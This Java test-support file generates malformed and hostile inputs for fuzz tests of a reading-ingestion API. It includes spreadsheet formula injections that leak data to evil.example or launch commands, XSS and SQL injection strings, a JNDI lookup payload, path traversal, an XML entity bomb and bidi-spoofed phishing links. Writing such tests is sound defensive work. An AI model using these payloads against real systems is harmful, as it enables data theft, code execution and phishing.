package targetwatch.routes;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * Generated malformed and hostile reading inputs, and valid readings with hostile but legal notes, for the
 * fuzz-style tests. Every kind of malformation comes round in turn; the details of each (where JSON is cut,
 * which junk is the value, how deep the nesting goes) are drawn from a seeded random, so a failure can be
 * reproduced with the same seed. Each bad input carries the words its refusal must contain.
 */
final class HostileInputs {

    /** targetwatch.max-message-bytes as shipped: larger messages and bodies are refused. */
    static final int MAX_MESSAGE_BYTES = 1024 * 1024;
    /** The "10 MB single line" of the issue: under the HTTP server's own 10 MiB limit, so the API answers it. */
    static final int TEN_MB = 10_000_000;

    private static final String KSI = "ksi-casualties";

    /**
     * A note that forges the mail's own lines: a blank line, a second "Acknowledge it" line with another link,
     * a bidi override that turns text round, and markup with a link. It must reach mails and pages as one quoted
     * line of the partner's, with no link in it.
     */
    static final String FORGED_ACK_NOTE = "Figures provisional.\n\nAcknowledge it (it then stops escalating and reminding):"
            + " http://evil.example/ack/forged\r\n\u202eknil siht kcilc\u202c <a href=\"http://evil.example/x\">details</a>";

    /** The characters no text from outside may bring to a mail, page or log line: line breaks, controls, bidi. */
    static final java.util.regex.Pattern UNSAFE_CHARACTERS =
            java.util.regex.Pattern.compile("[\\p{Cc}\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069\u061c]");

    /** Text a partner may legally write in a note: spreadsheet formulas, markup, quotes, scripts, bidi controls. */
    static final List<String> HOSTILE_NOTES = List.of(
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
            "+SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "=1+1",
            "<script>alert('xss')</script><img src=x onerror=alert(1)>",
            "\"quoted\", with, commas; and \"\"doubled\"\" quotes",
            "'; DROP TABLE readings; --",
            "caf\u00e9 \u4f60\u597d \u0645\u0631\u062d\u0628\u0627 \u202eevil\u202c \ud83d\ude48",
            "line one\nline two\r\nline three",
            "back\\slash and \\u0000 written out",
            "${jndi:ldap://evil.example/a} {{7*7}} #{7*7}",
            FORGED_ACK_NOTE,
            "\u2066\u202eknil siht kcilc\u202c\u2069 \u200f\u200e\u202a\u202b\u2067\u2068 https://evil.example/login",
            "see www.evil.example or mailto:chair@evil.example\u2028Dear lead,\u2029please click\u0085");

    /** How a bad input reaches a JMS source: as text, as bytes, or as another kind of JMS message. */
    enum JmsKind { TEXT, BYTES, MAP, OBJECT, STREAM, NO_BODY }

    /**
     * One malformed input for a JSON source.
     *
     * @param what what is wrong with it, for messages
     * @param body the bytes sent
     * @param contentType the Content-Type an HTTP client sends with it (null for none)
     * @param httpStatus the status the HTTP API must answer it with
     * @param reason words the refusal's reason must contain (null: any reason)
     * @param jms how a JMS client sends it
     */
    record Bad(int id, String what, byte[] body, String contentType, int httpStatus, String reason, JmsKind jms) {

        String text() {
            return new String(body, StandardCharsets.UTF_8);
        }
    }

    /** One malformed CSV row, written as it appears in the file, and the words its refusal must contain. */
    record BadRow(String what, String row, String reason) {
    }

    private static final int JSON_KINDS = 20;
    private static final int CSV_KINDS = 12;

    private final Random random;

    HostileInputs(long seed) {
        random = new Random(seed);
    }

    // ---- valid readings, with hostile notes

    /** A GREEN KSI reading (30 for 2017, below the trajectory) in its own area, with a hostile but legal note. */
    String validJson(String area) {
        return reading(KSI, area, "2017", "30", "kfrs", null, anyOf(HOSTILE_NOTES));
    }

    /** The same as a CSV row. */
    String validCsvRow(String area) {
        return csv("maidstone", KSI, area, "2017", "30", "kfrs", "2018-01-15T09:00:00Z", anyOf(HOSTILE_NOTES));
    }

    // ---- malformed JSON inputs (HTTP, JMS, .json files)

    /**
     * The n-th malformed JSON input. Every hundredth (from the fiftieth) is just over the size limit; the five
     * hundredth is a 10 MB single line, and the seven hundredth a JSON object with 60,000 repeats of one key.
     */
    Bad json(int n) {
        if (n == 500) {
            return new Bad(n, "a 10 MB single line", tenMegabyteLine(), "application/json", 413, "larger than the limit",
                    JmsKind.BYTES);
        }
        if (n % 100 == 50) {
            String note = "n".repeat(MAX_MESSAGE_BYTES + random.nextInt(1000));
            return text(n, "a body over 1 MiB", reading(KSI, "fuzz-big-" + n, "2017", "30", "kfrs", null, note), 413,
                    "larger than the limit");
        }
        if (n == 700) {
            String repeated = IntStream.range(0, 60_000).mapToObj(i -> "\"note\":\"x\"").collect(Collectors.joining(","));
            return text(n, "60,000 repeats of one key", "{" + repeated + ",\"value\":30}", 400, "malformed JSON");
        }
        String area = "fuzz-bad-" + n;
        return switch (n % JSON_KINDS) {
            case 0 -> {
                String whole = reading(KSI, area, "2017", "30", "kfrs", null, anyOf(HOSTILE_NOTES));
                int cut = 1 + random.nextInt(whole.length() - 2);
                if (Character.isHighSurrogate(whole.charAt(cut - 1))) {
                    cut--; // never half a character
                }
                yield text(n, "JSON cut short", whole.substring(0, cut), 400, "malformed JSON");
            }
            case 1 -> text(n, "an unknown indicator", reading("fuzz-" + word(8), area, "2017", "30", "kfrs", null, null), 400,
                    "unknown indicator");
            case 2 -> text(n, "a value that is no number", reading(KSI, area, "2017", quoted(junkNumber()), "kfrs", null, null),
                    400, "is not a number");
            case 3 -> text(n, "a period that is no period", reading(KSI, area, anyOf(BAD_PERIODS), "30", "kfrs", null, null), 400, "period");
            case 4 -> text(n, "an area that is no slug", reading(KSI, badSlug(n), "2017", "30", "kfrs", null, null), 400, "area");
            case 5 -> text(n, "a NUL character in the note", reading(KSI, area, "2017", "30", "kfrs", null,
                    word(3) + "\u0000" + word(3)), 400, "NUL");
            case 6 -> bytes(n, "a raw control character inside a JSON string", concat(
                    ("{\"indicator\":\"" + KSI + "\",\"area\":\"" + area + "\",\"period\":\"2017\",\"value\":30,\"source\":\"kfrs\","
                            + "\"note\":\"a").getBytes(StandardCharsets.UTF_8),
                    new byte[] {(byte) random.nextInt(0x20)}, "b\"}".getBytes(StandardCharsets.UTF_8)), 400, "malformed JSON");
            case 7 -> text(n, "deeply nested JSON", deeplyNested(9 + random.nextInt(20_000)), 400, "malformed JSON");
            case 8 -> text(n, "a repeated key", "{\"indicator\":\"" + KSI + "\",\"area\":\"" + area + "\",\"period\":\"2017\","
                    + "\"value\":30,\"value\":" + random.nextInt(100) + ",\"source\":\"kfrs\"}", 400, "malformed JSON");
            case 9 -> bytes(n, "wrongly encoded bytes (not UTF-8)", concat(
                    ("{\"indicator\":\"" + KSI + "\",\"area\":\"" + area + "\",\"period\":\"2017\",\"value\":30,\"source\":\"kfrs\","
                            + "\"note\":\"caf").getBytes(StandardCharsets.UTF_8),
                    anyOf(NOT_UTF_8), "\"}".getBytes(StandardCharsets.UTF_8)), 400, "UTF-8");
            case 10 -> text(n, "an XML entity bomb", BILLION_LAUGHS, 400, "malformed JSON");
            case 11 -> shape(n);
            case 12 -> ruleSetRefusal(n, area);
            case 13 -> text(n, "a note over 2,000 characters", reading(KSI, area, "2017", "30", "kfrs", null,
                    "=HYPERLINK(\"x\")".repeat(134 + random.nextInt(200))), 400, "longer than");
            case 14 -> text(n, "a reportedAt that is no instant", reading(KSI, area, "2017", "30", "kfrs",
                    anyOf(List.of("yesterday", "2018-13-01T00:00:00Z", "2018-01-15", "15/01/2018 09:00", "1516006800")), null),
                    400, "reportedAt");
            case 15 -> missingField(n, area);
            case 16 -> text(n, "an empty body", anyOf(List.of("", " ", "\n\n", "\t \r\n")), 400, null);
            case 17 -> text(n, "JSON numbers where text belongs", "{\"indicator\":" + random.nextInt() + ",\"area\":\"" + area
                    + "\",\"period\":2017,\"value\":30,\"source\":\"kfrs\"}", 400, "indicator");
            case 18 -> text(n, "a JSON array of bad items", "[" + reading("fuzz-" + word(5), area, "2017", "30", "kfrs", null, null)
                    + "," + reading(KSI, area, "2017", "\"-" + (1 + random.nextInt(99)) + "\"", "kfrs", null, null) + "]",
                    400, "item 2");
            default -> wrongType(n, area);
        };
    }

    private Bad shape(int n) {
        return switch (random.nextInt(6)) {
            case 0 -> text(n, "a bare number", String.valueOf(random.nextInt()), 400, "expected a reading object");
            case 1 -> text(n, "a bare string", "\"ksi-casualties 30\"", 400, "expected a reading object");
            case 2 -> text(n, "null", "null", 400, "expected a reading object");
            case 3 -> text(n, "an empty array", "[]", 400, "empty array");
            case 4 -> text(n, "an array of numbers", "[1,2,3]", 400, "expected a reading object");
            default -> text(n, "an object as the value", "{\"indicator\":\"" + KSI + "\",\"area\":\"fuzz-bad-" + n
                    + "\",\"period\":\"2017\",\"value\":{\"$gt\":0},\"source\":\"kfrs\"}", 400, "plain value");
        };
    }

    private Bad ruleSetRefusal(int n, String area) {
        return switch (random.nextInt(3)) {
            case 0 -> text(n, "a percentage over 100", reading("asb-satisfaction", area, "2017-Q4",
                    String.valueOf(101 + random.nextInt(10_000)), "kfrs", null, null), 400, "between 0 and 100");
            case 1 -> text(n, "a negative count", reading(KSI, area, "2017", "-" + (1 + random.nextInt(1000)), "kfrs", null, null),
                    400, "negative");
            default -> text(n, "a fraction of a count", reading(KSI, area, "2017", random.nextInt(100) + ".5", "kfrs", null, null),
                    400, "whole number");
        };
    }

    private Bad missingField(int n, String area) {
        String[] fields = {"indicator", "area", "period", "value", "source"};
        String field = fields[random.nextInt(fields.length)];
        StringBuilder b = new StringBuilder("{");
        for (String[] kv : new String[][] {{"indicator", "\"" + KSI + "\""}, {"area", "\"" + area + "\""}, {"period", "\"2017\""},
                {"value", "30"}, {"source", "\"kfrs\""}}) {
            if (!kv[0].equals(field)) {
                b.append(b.length() > 1 ? "," : "").append('"').append(kv[0]).append("\":").append(kv[1]);
            }
        }
        return text(n, "no " + field, b.append('}').toString(), 400, "required");
    }

    /** Over HTTP: a good reading labelled as something else. Over JMS: another kind of message than text or bytes. */
    private Bad wrongType(int n, String area) {
        String body = reading(KSI, area, "2017", "30", "kfrs", null, null);
        String type = anyOf(java.util.Arrays.asList("text/plain", "application/xml", "text/csv", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x", null));
        JmsKind kind = anyOf(List.of(JmsKind.MAP, JmsKind.OBJECT, JmsKind.STREAM, JmsKind.NO_BODY));
        return new Bad(n, "a reading labelled " + type + " (over JMS, a " + kind + " message)",
                body.getBytes(StandardCharsets.UTF_8), type, 415, null, kind);
    }

    private static Bad text(int n, String what, String body, int status, String reason) {
        return new Bad(n, what, body.getBytes(StandardCharsets.UTF_8), "application/json", status, reason, JmsKind.TEXT);
    }

    private static Bad bytes(int n, String what, byte[] body, int status, String reason) {
        return new Bad(n, what, body, "application/json", status, reason, JmsKind.BYTES);
    }

    // ---- malformed CSV rows

    /** The n-th malformed CSV row (under {@link Readings#CSV_HEADER}). */
    BadRow csvRow(int n) {
        String area = "fuzz-bad-" + n;
        return switch (n % CSV_KINDS) {
            case 0 -> new BadRow("a value that is no number",
                    csv("maidstone", KSI, area, "2017", junkNumber(), "kfrs", "", ""), "is not a number");
            case 1 -> new BadRow("an unknown indicator",
                    csv("maidstone", "fuzz-" + word(8), area, "2017", "30", "kfrs", "", ""), "unknown indicator");
            case 2 -> new BadRow("a period that is no period",
                    csv("maidstone", KSI, area, anyOf(BAD_PERIODS), "30", "kfrs", "", ""), "period");
            case 3 -> new BadRow("an area that is no slug",
                    csv("maidstone", KSI, badSlug(n), "2017", "30", "kfrs", "", ""), "area");
            case 4 -> new BadRow("a NUL character in the note",
                    csv("maidstone", KSI, area, "2017", "30", "kfrs", "", word(4) + "\u0000" + word(4)), "NUL");
            case 5 -> new BadRow("more cells than the header",
                    csv("maidstone", KSI, area, "2017", "30", "kfrs", "", "", "=HYPERLINK(\"x\")")
                            + ",x".repeat(random.nextInt(20)), "cells where the header has");
            case 6 -> new BadRow("no value",
                    csv("maidstone", KSI, area, "2017", "", "kfrs", "", "a note"), "value is required");
            case 7 -> new BadRow("a reportedAt that is no instant",
                    csv("maidstone", KSI, area, "2017", "30", "kfrs", anyOf(List.of("yesterday", "2018-02-30T00:00:00Z",
                            "=NOW()")), ""), "reportedAt");
            case 8 -> random.nextBoolean()
                    ? new BadRow("a percentage over 100", csv("maidstone", "asb-satisfaction", area, "2017-Q4",
                    String.valueOf(101 + random.nextInt(1000)), "kfrs", "", ""), "between 0 and 100")
                    : new BadRow("a negative count", csv("maidstone", KSI, area, "2017", "-" + (1 + random.nextInt(99)),
                    "kfrs", "", ""), "negative");
            case 9 -> new BadRow("a note over 2,000 characters",
                    csv("maidstone", KSI, area, "2017", "30", "kfrs", "", "=1+1;".repeat(401 + random.nextInt(300))),
                    "longer than");
            case 10 -> new BadRow("no source",
                    csv("maidstone", KSI, area, "2017", "30", "", "", ""), "source is required");
            default -> new BadRow("a formula as the value",
                    csv("maidstone", KSI, area, "2017", anyOf(List.of("=1+69", "+70", "=HYPERLINK(\"x\",70)", "@70", "-0x46")),
                            "kfrs", "", ""), "is not a number");
        };
    }

    // ---- building blocks

    static final List<String> BAD_PERIODS = List.of("2017-13", "2017-Q5", "17", "2017/19", "Q1-2017", "2017-00",
            "twenty-seventeen", "2017-02-30", "99999", "=2017", "2017\u00002");

    private static final List<byte[]> NOT_UTF_8 = List.of(
            new byte[] {(byte) 0xE9, 'x'},                            // Latin-1 e-acute
            new byte[] {(byte) 0xC3, 0x28},                           // a two-byte sequence cut short
            new byte[] {(byte) 0xA0, (byte) 0xA1},                    // a continuation byte first
            new byte[] {(byte) 0xE2, 0x28, (byte) 0xA1},              // a three-byte sequence broken
            new byte[] {(byte) 0xF0, 0x28, (byte) 0x8C, 0x28},        // a four-byte sequence broken
            new byte[] {(byte) 0xFF, (byte) 0xFE},                    // bytes UTF-8 never uses
            new byte[] {(byte) 0xC0, (byte) 0xAF},                    // an overlong '/'
            new byte[] {(byte) 0xE0, (byte) 0x80, (byte) 0xAF},       // an overlong '/', three bytes
            new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},       // an encoded surrogate
            new byte[] {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}); // beyond U+10FFFF

    /** The classic "billion laughs" XML entity expansion, sent where a reading belongs. */
    static final String BILLION_LAUGHS = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n"
            + IntStream.rangeClosed(1, 9).mapToObj(i -> " <!ENTITY lol" + i + " \""
                    + ("&lol" + (i == 1 ? "" : String.valueOf(i - 1)) + ";").repeat(10) + "\">\n").collect(Collectors.joining())
            + "]>\n<reading><value>&lol9;</value></reading>\n";

    /** A JSON reading with every field as given; {@code value} is written as it is (a number, or quoted text). */
    static String reading(String indicator, String area, String period, String value, String source, String reportedAt,
                          String note) {
        StringBuilder b = new StringBuilder("{\"partnership\":\"maidstone\",\"indicator\":").append(quoted(indicator))
                .append(",\"area\":").append(quoted(area)).append(",\"period\":").append(quoted(period))
                .append(",\"value\":").append(value).append(",\"source\":").append(quoted(source));
        if (reportedAt != null) {
            b.append(",\"reportedAt\":").append(quoted(reportedAt));
        }
        if (note != null) {
            b.append(",\"note\":").append(quoted(note));
        }
        return b.append('}').toString();
    }

    /** A JSON string literal. */
    static String quoted(String s) {
        StringBuilder b = new StringBuilder("\"");
        for (char c : s.toCharArray()) {
            switch (c) {
                case '"' -> b.append("\\\"");
                case '\\' -> b.append("\\\\");
                default -> {
                    if (c < 0x20) {
                        b.append(String.format("\\u%04x", (int) c));
                    } else {
                        b.append(c);
                    }
                }
            }
        }
        return b.append('"').toString();
    }

    /** A CSV row of the given cells, each quoted when it must be. */
    static String csv(String... cells) {
        List<String> out = new ArrayList<>();
        for (String c : cells) {
            boolean quote = c.chars().anyMatch(ch -> ch == ',' || ch == '"' || ch == '\n' || ch == '\r');
            out.add(quote ? "\"" + c.replace("\"", "\"\"") + "\"" : c);
        }
        return String.join(",", out);
    }

    private String junkNumber() {
        return anyOf(List.of("seventy", "7O", "1e3", "0x1F", "12,5", "--1", "1.2.3", "NaN", "Infinity", "1".repeat(21 + random.nextInt(10)),
                "30 30", "\u0663\u0660", "\uff13\uff10", "30%", "1.00000000001", "\u00a030\u00a0x", "=30"));
    }

    private String badSlug(int n) {
        return switch (random.nextInt(9)) {
            case 0 -> "Ward-" + n;
            case 1 -> "ward " + n;
            case 2 -> "w\u00e4rd-" + n;
            case 3 -> "=HYPERLINK(\"http://evil.example/?\"&A1,\"ward " + n + "\")";
            case 4 -> "../../etc/passwd-" + n;
            case 5 -> "<script>alert(" + n + ")</script>";
            case 6 -> "a".repeat(65 + random.nextInt(1000));
            case 7 -> "ward\u0000" + n;
            default -> "ward-\u202e" + n;
        };
    }

    private String deeplyNested(int depth) {
        return switch (random.nextInt(3)) {
            case 0 -> "[".repeat(depth) + "]".repeat(depth);
            case 1 -> "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
            default -> "{\"indicator\":\"" + KSI + "\",\"note\":" + "[".repeat(depth) + "]".repeat(depth) + "}";
        };
    }

    private byte[] tenMegabyteLine() {
        byte[] line = new byte[TEN_MB];
        java.util.Arrays.fill(line, (byte) 'A');
        byte[] start = "{\"note\":\"".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(start, 0, line, 0, start.length);
        return line;
    }

    private String word(int length) {
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < length; i++) {
            b.append((char) ('a' + random.nextInt(26)));
        }
        return b.toString();
    }

    <T> T anyOf(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }
}
